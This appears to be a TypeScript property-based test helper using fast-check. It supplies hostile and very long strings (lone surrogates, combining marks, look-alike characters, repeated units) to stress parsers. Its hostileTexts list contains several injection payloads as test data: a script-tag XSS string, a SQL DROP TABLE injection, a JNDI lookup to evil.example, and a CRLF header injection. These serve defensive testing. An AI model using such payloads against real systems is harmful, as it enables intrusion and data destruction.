import * as fc from 'fast-check'

// Long enough that quadratic work runs into the test's time limit, short enough to stay quick.
const huge = 250_000

/** Texts that have broken parsers: nothing, control characters, halves of characters, look-alikes. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'A\u0000B',
  '\u001B[31mred\u001B[0m',
  '\uD800',
  'ABC\uDFFF123',
  '\u200B\u200E\u2066\uFEFF',
  '\u3164\uFFA0',
  'e\u0301\u0301\u0301',
  '\u0301',
  '\u0345\u03B9\u0308\u0301',
  'ﬀßŉǰΐᾳ',
  'ıİſK',
  '👩‍👩‍👧‍👦',
  'АВС123',
  '１２３４５６',
  '٠١٢٣٤٥',
  '<script>alert(1)</script>',
  "'; DROP TABLE tickets; --",
  '${jndi:ldap://evil.example/a}',
  '%00%0d%0aSet-Cookie: a=b',
  '__proto__',
  'null',
  '-1e999',
  '\uFDFA'.repeat(100),
]

/** A huge text of each kind that makes a careless pattern quadratic or overflow a stack. */
export const hugeTexts: readonly (readonly [name: string, text: string])[] = [
  ['letters', 'A'.repeat(huge)],
  ['digits', '1'.repeat(huge)],
  ['spaces', ' '.repeat(huge)],
  ['spaces inside', `A${' '.repeat(huge)}A`],
  ['spaces before a bad character', `${' '.repeat(huge)}\u0416`],
  ['zero-width spaces before a bad character', `${'\u200B'.repeat(huge)}\u0416`],
  ['dashes', '-'.repeat(huge)],
  ['full stops', 'a.'.repeat(huge / 2)],
  ['at signs', '@'.repeat(huge)],
  ['an address of labels', `a@${'a-.'.repeat(huge / 3)}`],
  ['old prefixes', '(H)-'.repeat(huge / 4)],
  ['old prefixes before a serial number', `${'(H)'.repeat(huge / 3)}FG1`],
  ['combining marks', `A${'\u0301'.repeat(huge)}`],
  ['lone surrogates', '\uD800'.repeat(huge)],
  ['emoji', '😀'.repeat(huge / 2)],
  ['line breaks', '\r\n'.repeat(huge / 2)],
  ['characters that unfold eighteenfold', '\uFDFA'.repeat(huge / 10)],
]

/** What a careless pattern or normalisation takes more than linear time for, when it is repeated. */
export const worstUnits: readonly string[] = [
  ' ',
  '-',
  '.',
  'a.',
  '@',
  '(H)-',
  '0',
  '\u200B',
  '\uD800',
  '\r\n',
  // Marks of one class, of two in the wrong order, that become two, and letters that become marks.
  '\u0301',
  '\u0301\u0316',
  '\u0344',
  '\uFF9E',
  '\uFDFA',
]

// The alphabet of identifiers, and what is cleaned away from them or mistaken for it.
const usualUnits = Array.from('AaH()-–−. /_+09PLpl@\t\u200B\u202E\u0301Аß１')

/**
 * Any string at all: code units without pairing, whole characters, the alphabet of identifiers
 * with everything that is cleaned away from it, and the list above.
 */
export function anyText(): fc.Arbitrary<string> {
  const units = fc
    .array(fc.integer({ min: 0, max: 0xff_ff }))
    .map((codes) => String.fromCharCode(...codes))
  return fc.oneof(
    units,
    fc.string({ unit: 'binary' }),
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...usualUnits) }),
    fc.constantFrom(...hostileTexts),
  )
}

/**
 * Every character of the planes that are in use but for the ideographs of planes 2 and 3, which
 * behave as those of plane 0 do.
 */
export function* everyCharacter(): Generator<string> {
  for (let code = 0; code < 0x2_00_00; code++) {
    if (code < 0xd8_00 || code > 0xdf_ff) yield String.fromCodePoint(code)
  }
  for (let code = 0xe_00_00; code < 0xe_10_00; code++) yield String.fromCodePoint(code)
}
